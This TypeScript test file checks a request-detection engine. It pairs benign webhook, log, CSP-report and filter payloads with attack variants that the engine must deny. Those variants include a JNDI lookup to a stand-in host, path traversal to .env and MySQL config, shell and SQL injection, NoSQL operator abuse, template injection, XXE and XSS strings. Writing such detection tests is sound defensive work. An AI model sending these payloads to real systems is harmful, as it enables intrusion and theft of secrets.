import { DetectionEngine } from '../../../lib/detection/detection-engine';
import type { InspectableRequest } from '../../../lib/detection/inspectable-request';

const engine = new DetectionEngine();

const denies = (request: Partial<InspectableRequest>): boolean =>
  engine.inspect({
    method: 'POST',
    path: '/hook',
    queryString: '',
    headers: {},
    body: undefined,
    files: undefined,
    route: undefined,
    ...request,
  })?.denies === true;

interface Pair {
  readonly what: string;
  readonly honest: Partial<InspectableRequest>;
  /** In the same place, or right beside it. */
  readonly attack: Partial<InspectableRequest>;
}

const inBody = (what: string, honest: unknown, attack: unknown): Pair => ({
  what,
  honest: { body: honest },
  attack: { body: attack },
});

const push = (...modified: string[]): unknown => ({
  ref: 'refs/heads/main',
  commits: [{ id: '4f', modified }],
});
const report = (sample: string): unknown => [{ type: 'csp-violation', age: 9, body: { sample } }];
const javaTrace =
  'java.lang.NullPointerException: order\n\tat shop.Order.price(Order.java:52)\n\tat java.lang.Thread.run(Thread.java:748)';
const pythonTrace =
  'Traceback (most recent call last):\n  File "/app/jobs.py", line 8, in start\n    os.system(job)\nTypeError: no job';

const XML = { 'content-type': 'application/xml' };
const plist = (identifiers: string): string =>
  `<?xml version="1.0"?><!DOCTYPE plist PUBLIC ${identifiers}><plist version="1.0"><dict/></plist>`;

/** What programs send that hold the words of attacks by their nature. */
const pairs: readonly Pair[] = [
  inBody('a push that changes hidden files', push('.env', '.htaccess', 'wp-config.php'), push('../../.env')),
  inBody(
    'a push as GitHub sends it in a form',
    { payload: JSON.stringify(push('.npmrc')) },
    { file: '.npmrc' },
  ),
  inBody(
    'a commit that tells of a folder of secrets',
    { commits: [{ message: 'Move src/WEB-INF/web.xml' }] },
    { path: 'src/WEB-INF/web.xml' },
  ),
  inBody(
    'the same in a form',
    { payload: JSON.stringify({ commits: [{ message: 'Fix web/.htpasswd', id: '4f' }] }) },
    { payload: JSON.stringify({ commits: [{ message: 'Fix', url: 'file:///web/.htpasswd' }] }) },
  ),
  inBody('a stack trace of Java', { log: javaTrace }, { log: "java.lang.Runtime.getRuntime().exec('id')" }),
  inBody('a stack trace of Python', { error: pythonTrace }, { error: "os.system('id')" }),
  inBody(
    'a frame of a stack trace',
    { exception: { values: [{ stacktrace: { frames: [{ context_line: 'os.system(job)' }] } }] } },
    { exception: { values: [{ value: '${jndi:ldap://a.example/x}' }] } },
  ),
  inBody(
    'what a policy of the page stopped',
    report('document.cookie = "a'),
    report('<script>go()</script>'),
  ),
  inBody(
    'the same in the older format',
    { 'csp-report': { 'blocked-uri': 'inline', 'script-sample': 'alert(1)' } },
    { 'csp-report': { 'blocked-uri': 'javascript:alert(1)' } },
  ),
  inBody(
    'arguments of a container',
    { spec: { containers: [{ args: ['-c', 'sleep 5; cat /tmp/ready'] }] } },
    { spec: { containers: [{ image: 'a; cat /tmp/ready' }] } },
  ),
  inBody(
    'a link that does nothing, as analytics tell it',
    { properties: { href: 'javascript:void(0)', text: 'More' } },
    { properties: { href: 'javascript:void(go())', text: 'More' } },
  ),
  inBody(
    'the first part of a mail',
    { raw: '--a1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHi Kate\r\n--a1--' },
    { name: 'Kate\r\nContent-Type: text/plain' },
  ),
  inBody(
    'a path in a message',
    { text: 'please run it in ../../tools and tell me' },
    { text: '../../tools/deploy.sh' },
  ),
  inBody(
    'an answer to a mail',
    { text: "That's cheap.\n> I asked for a router and having a\n> noisy one is no option" },
    { text: "x' having 1=1" },
  ),
  inBody('a headline', { title: "Warning system 'could stop floods'" }, { title: "system 'ls -la'" }),
  inBody(
    'a number of copies',
    { subject: '1987 copy of a magazine for $700' },
    { subject: "1; copy t to '/x'" },
  ),
  inBody(
    'the name of a package',
    { name: '@shop/select-field', title: 'An SDK for Rust & Python users' },
    { name: '@shop-(select 1)', title: 'x & python -c 1' },
  ),
  inBody(
    'a sentence about code',
    { title: 'Reads files into process.env', text: 'how to read document.cookie in a test' },
    { text: 'how to read document.cookie in a test";document.cookie="a' },
  ),
  inBody(
    'the names of elements in a sentence',
    { text: 'put a <link> into the head, it is an Array<object> then' },
    { text: 'put a <link rel=import href=//a.example> into the head' },
  ),
  inBody(
    'the template of a mail',
    { body: 'Hi {{ user.name | capitalize }},\n{% if paid %}thanks{% else %}please pay{% endif %}' },
    { body: "Hi {{ user.name | filter('system') }},\n{% include paid %}" },
  ),
  inBody(
    'where somebody looks at an app in development',
    { view: { url: 'http://localhost:4200/cart' }, message: 'http://127.0.0.1:8080/ gives me 404' },
    { view: { url: 'http://localhost:9200/_cat' } },
  ),
  inBody(
    'a drawing in a style',
    { style: 'background:url(\'data:image/svg+xml,<svg viewBox="0 0 9 9"><path d="M0 0"/></svg>\')' },
    { style: 'background:url(\'data:image/svg+xml,<svg onload="go()"></svg>\')' },
  ),
  {
    what: 'a property list of Apple',
    honest: {
      headers: XML,
      body: plist('"-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"'),
    },
    attack: { headers: XML, body: plist('"-//Apple//DTD PLIST 1.0//EN" "http://a.example/x.dtd"') },
  },
  {
    what: 'a filter of Strapi',
    honest: { queryString: 'filters[$or][0][title][$contains]=a&filters[price][$gt]=5' },
    attack: { queryString: 'filters[$or][0][$where]=a' },
  },
  {
    what: 'a filter as JSON',
    honest: { queryString: `filter=${encodeURIComponent('{"$and":[{"price":{"$gte":5}}]}')}` },
    attack: { queryString: `filter=${encodeURIComponent('{"$ne":5}')}` },
  },
  {
    what: 'a filter in the body',
    honest: { body: { where: { $or: [{ name: 'a' }] } } },
    attack: { body: { where: { password: { $ne: 'a' } } } },
  },
  {
    what: 'a part of a page below a folder with an unlucky name',
    honest: { path: '/etc/designs/shop/site.css' },
    attack: { path: '/etc/mysql/my.cnf' },
  },
];

describe('requests that look like attacks', () => {
  it.each(pairs)('$what passes', ({ honest }) => {
    expect(denies(honest)).toBe(false);
  });

  it.each(pairs)('an attack beside $what is denied', ({ attack }) => {
    expect(denies(attack)).toBe(true);
  });
});
